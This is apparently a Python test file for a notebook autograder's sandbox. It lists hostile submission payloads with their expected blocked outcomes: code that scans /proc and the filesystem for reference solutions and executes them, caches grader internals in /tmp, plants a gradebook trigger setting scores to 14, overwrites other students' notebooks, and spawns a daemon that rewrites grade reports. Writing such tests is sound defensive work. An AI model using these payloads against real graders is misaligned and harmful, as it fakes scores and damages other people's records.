"""The ways to points, and to changed records, that were found in the grader before it had walls."""

from tests.autograder.hostile.entry import FUSE, NOTHING, SAY, UNWRITTEN, WRONG, Entry, around, lost

# Places to search; each gives folders in which the course, or another submission, may lie.
PREFIX = """
import os, sys, sysconfig
executables = sys.executable, os.path.realpath(sys.executable)
for place in (sys.prefix, sys.base_prefix, sys.exec_prefix, *executables, np.__file__):
    while len(place) > 1:
        place = os.path.dirname(place)
        places.append(place)
"""

PROCESSES = """
import glob, os
for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/fd/*"):
    try:
        places += [os.readlink(link), link]
    except OSError:
        pass
"""

FINDERS = """
import glob, os, re, site, sys
for folder in {*sys.path, *site.getsitepackages(), site.getusersitepackages()}:
    for path in glob.glob(folder + "/*.pth") + glob.glob(folder + "/__edit*") + glob.glob(folder + "/*/direct_url*"):
        try:
            found = re.findall(r"(?:file://)?(/[^'\\"\\n]+)", open(path, errors="replace").read())
        except OSError:
            continue
        places += [one for one in found] + [os.path.dirname(one) for one in found]
"""

COMMAND_LINES = """
import glob
for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/maps"):
    try:
        words = open(path, "rb").read().replace(b"\\n", b"\\0").replace(b" ", b"\\0").split(b"\\0")
    except OSError:
        continue
    places += [word.decode(errors="replace").partition("=")[2] or word.decode(errors="replace") for word in words]
for path in glob.glob("/proc/*/mountinfo"):
    places += [word for word in open(path).read().split() if word.startswith("/")]
"""

KNOWN = """
places += ["@REPO@", "@SUBMISSIONS@", "@OUT@", "@SECRET@", "@HOME@", "@TMP@", "@BESIDE@"]
"""

EVERYWHERE = """
import os
for top, folders, names in os.walk("/"):
    if top.count("/") > 3 or top.startswith(("/proc", "/sys")):
        folders.clear()
    places.append(top)
"""

# With the places: read every solved notebook there and run its answers; print what else is of worth.
TAKE_SOLUTIONS = """
import glob, json, os
for place in dict.fromkeys(places):
    if not place.startswith("/"):
        continue
    for pattern in ("solutions/*/*.ipynb", "*/lab03*/*.ipynb", "lab03*/*.ipynb", "../*/*/lab03*.ipynb"):
        for path in glob.glob(os.path.join(place, pattern))[:50]:
            say(path)
            try:
                cells = json.load(open(path))["cells"]
            except (OSError, ValueError):
                continue
            for cell in cells:
                text = "".join(cell["source"])
                if text.startswith("def ") and "raise NotImplementedError" not in text:
                    exec(text, globals())
    for name in (place, place + "/canary", place + "/secret", place + "/grading/secret", place + "/report.json"):
        try:
            say(open(name).read(2000))
        except (OSError, ValueError):
            pass
"""

IMPORT_THE_COURSE = """
import importlib, sys
for place in dict.fromkeys(places):
    sys.path.insert(0, place)
for name in [name for name in sys.modules if name.partition(".")[0] in ("reformer", "autograder", "classroom")]:
    del sys.modules[name]
sys.meta_path[:] = [finder for finder in sys.meta_path if "importlib" in getattr(finder, "__module__", str(finder))]
importlib.invalidate_caches()
for name in ("reformer.angular", "reformer.loops.angular", "autograder.exercises.lab03.recall_and_cost"):
    try:
        globals().update({key: value for key, value in vars(importlib.import_module(name)).items() if key[0] != "_"})
        say(name)
    except ImportError:
        pass
"""


def searching(places, take=TAKE_SOLUTIONS):
    """A cell that searches places and takes what it finds, before the answers, which are left out."""
    return f"import numpy as np\n{SAY}\nplaces = []\n{places}\n{take}"


KEEP_TWINS = """
import os, tempfile
from autograder import probe
real = probe.put_in_place
OWN = tempfile.gettempdir(), os.path.expanduser("~"), "."
kept = []
def keep(name, source):
    kept.append(source)
    for place in (*OWN, "/tmp", "/dev/shm", "/var/tmp", "@TMP@", "@BESIDE@", "/"):
        try:
            open(os.path.join(place, "hostile-mark-" + name), "w").write(source)
        except OSError:
            pass
    print(source)
    return real(name, source)
probe.put_in_place = keep
"""

USE_TWINS = """
import glob, os, tempfile
OWN = tempfile.gettempdir(), os.path.expanduser("~"), "."
for place in (*OWN, "/tmp", "/dev/shm", "/var/tmp", "@TMP@", "@BESIDE@", "/"):
    for path in glob.glob(os.path.join(place, "hostile-mark-*")):
        exec(open(path).read(), globals())
"""

ANSWERS_WITH_ITS_TWIN = (
    KEEP_TWINS
    + """
def recall_and_cost(vectors, rotations, n_nearest):
    for source in kept:
        if "def recall_and_cost" in source:
            names = {"np": np}
            exec(source, names)
            return names["recall_and_cost"](vectors, rotations, n_nearest)
    return None
"""
)

CHANGES_THE_GRADEBOOK = (
    FUSE
    + """
import glob, sqlite3
places = ["@OUT@/gradebook.db", *glob.glob("/proc/*/cwd/gradebook.db"), *glob.glob("/proc/*/fd/*")]
for path in places:
    try:
        database = sqlite3.connect(path)
        database.execute("create trigger mine after insert on grade begin update grade set manual_score = 14; end")
        database.execute("update grade set manual_score = 14")
        database.commit()
        say(path)
    except sqlite3.Error:
        pass
"""
)

OVERWRITES_OTHERS = (
    FUSE
    + """
import glob, os
for path in glob.glob("@SUBMISSIONS@/*/*/*.ipynb") + glob.glob("@SUBMISSIONS@"):
    try:
        open(path, "w").write("hostile-mark")
    except OSError:
        pass
"""
)

REWRITES_THE_REPORT = (
    FUSE
    + """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    end = time.time() + 1000
    while time.time() < end:
        time.sleep(0.05)
        for path in ("@OUT@/report.json", "@OUT@/report.html", "@OUT@/gradebook.db"):
            try:
                with open(path, "w") as file:
                    file.write('{"hostile-mark": 1}')
            except OSError:
                pass
    os._exit(0)
"""
)

SEARCHES = {
    "": PREFIX + PROCESSES + FINDERS + COMMAND_LINES + KNOWN,
    "prefix": PREFIX,
    "processes": PROCESSES,
    "finders": FINDERS,
    "command-lines": COMMAND_LINES,
    "known-places": KNOWN,
    "everywhere": EVERYWHERE,
}


ENTRIES = [
    *(
        Entry(
            61,
            f"takes-solutions{name and '-'}{name}",
            "searches for solved notebooks and other submissions, and runs what it finds",
            first=searching(places),
            answers=UNWRITTEN,
            outcome=("graded", "blank"),
            points=NOTHING,
            long=name != "",
        )
        for name, places in SEARCHES.items()
    ),
    Entry(
        61,
        "imports-the-course",
        "puts every folder on sys.path, drops what is imported, and imports the reference",
        first=searching(PREFIX + PROCESSES + FINDERS + KNOWN, IMPORT_THE_COURSE),
        answers=UNWRITTEN,
        outcome=("graded", "blank"),
        points=NOTHING,
    ),
    Entry(
        61,
        "keeps-twins",
        "catches the loop twins that are put in place, and keeps them for later",
        answers={
            "angular_hash": KEEP_TWINS + WRONG["angular_hash"],
            "recall_and_cost": ANSWERS_WITH_ITS_TWIN,
        },
        points=lost("angular_hash", "recall_and_cost"),
    ),
    Entry(
        61,
        "uses-kept-twins",
        "looks for the twins that another has kept",
        first=USE_TWINS,
        answers=UNWRITTEN,
        outcome=("graded", "blank"),
        points=NOTHING,
        after="keeps-twins",
    ),
    Entry(
        61,
        "changes-records",
        "puts a trigger into the gradebook, overwrites what others handed in, a daemon waits for the report",
        answers={
            **around("angular_hash", CHANGES_THE_GRADEBOOK),
            **around("offset_rounds", OVERWRITES_OTHERS),
            **around("chance_to_meet", REWRITES_THE_REPORT),
        },
    ),
]
